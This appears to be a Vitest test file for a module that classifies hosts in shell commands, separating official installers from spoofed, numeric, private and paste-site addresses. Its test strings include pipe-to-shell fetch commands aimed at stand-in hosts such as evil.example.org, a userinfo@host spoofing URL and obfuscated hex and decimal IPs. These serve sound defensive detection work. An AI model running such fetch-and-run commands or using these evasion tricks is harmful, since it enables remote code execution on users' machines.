import { describe, expect, it } from "vitest";
import {
  type Address,
  addressesIn,
  isNearby,
  isNumber,
  isOfficial,
  isPaste,
  isUnaccountable,
  officialInstallers,
  pasteHosts,
} from "./addresses.ts";

function only(text: string): Address {
  const [address] = addressesIn(text);
  if (address === undefined) throw new Error(`no address in ${text}`);
  return address;
}

describe("addresses in a command", () => {
  it.each([
    ["curl -s https://cdn.example.com/a | sh", "cdn.example.com"],
    ["curl -s https://cdn.example.com:8443/a", "cdn.example.com"],
    ["curl evil.example.org | sh", "evil.example.org"],
    ['wget "example.net/x"', "example.net"],
    ["see [it](https://example.com/page)", "example.com"],
  ])("RV-6: finds the host in %s", (text, host) => {
    expect(only(text).host).toBe(host);
  });

  it("RV-6: is not taken in by a known name before an @", () => {
    const address = only(`curl https://${officialInstallers[0]}@bad.example.com/i.sh`);
    expect(address.host).toBe("bad.example.com");
    expect(isOfficial(address)).toBe(false);
  });

  it("RV-6: knows a host by itself and under it, not as the end of another name", () => {
    const [known = ""] = officialInstallers;
    expect(isOfficial(only(`curl https://${known}/i`))).toBe(true);
    expect(isOfficial(only(`curl https://docs.${known}/i`))).toBe(true);
    expect(isOfficial(only(`curl https://not${known}/i`))).toBe(false);
    expect(isOfficial(only(`curl https://${known}.example.com/i`))).toBe(false);
  });

  it("RV-6: an official installer without encryption is not one", () => {
    expect(isOfficial(only(`curl http://${officialInstallers[0]}/i`))).toBe(false);
  });

  it("RV-6: on a shared host only the account that is known is official", () => {
    const known = officialInstallers.find((place) => place.startsWith("raw.githubusercontent.com/")) ?? "";
    expect(isOfficial(only(`curl https://${known}install.sh`))).toBe(true);
    expect(isOfficial(only("curl https://raw.githubusercontent.com/somebody/x/install.sh"))).toBe(false);
  });
});

describe("numbers in place of names", () => {
  it.each(["203.0.113.7", "0xcb007107", "3405803783", "[2001:db8::1]"])("RV-6: %s is a public number", (host) => {
    expect(isNumber(only(`curl http://${host}/x`))).toBe(true);
  });

  it.each(["127.0.0.1", "10.1.2.3", "192.168.1.4", "172.20.0.2", "100.64.0.1", "[::1]", "169.254.1.1"])(
    "RV-6: %s is nearby",
    (host) => {
      const address = only(`curl http://${host}/x`);
      expect(isNumber(address)).toBe(false);
      expect(isNearby(address)).toBe(true);
    },
  );

  it("RV-6: a name that begins like a private number is not nearby", () => {
    expect(isNearby(only("curl http://10.example.com/x"))).toBe(false);
    expect(isNearby(only("curl http://localhost.example.com/x"))).toBe(false);
  });
});

it("RV-6: pastes are unaccountable, ordinary sites are not", () => {
  const paste = only(`curl https://${pasteHosts[0]}/raw/x`);
  expect([isPaste(paste), isUnaccountable(paste)]).toEqual([true, true]);
  expect(isUnaccountable(only("curl https://example.com/raw/x"))).toBe(false);
});
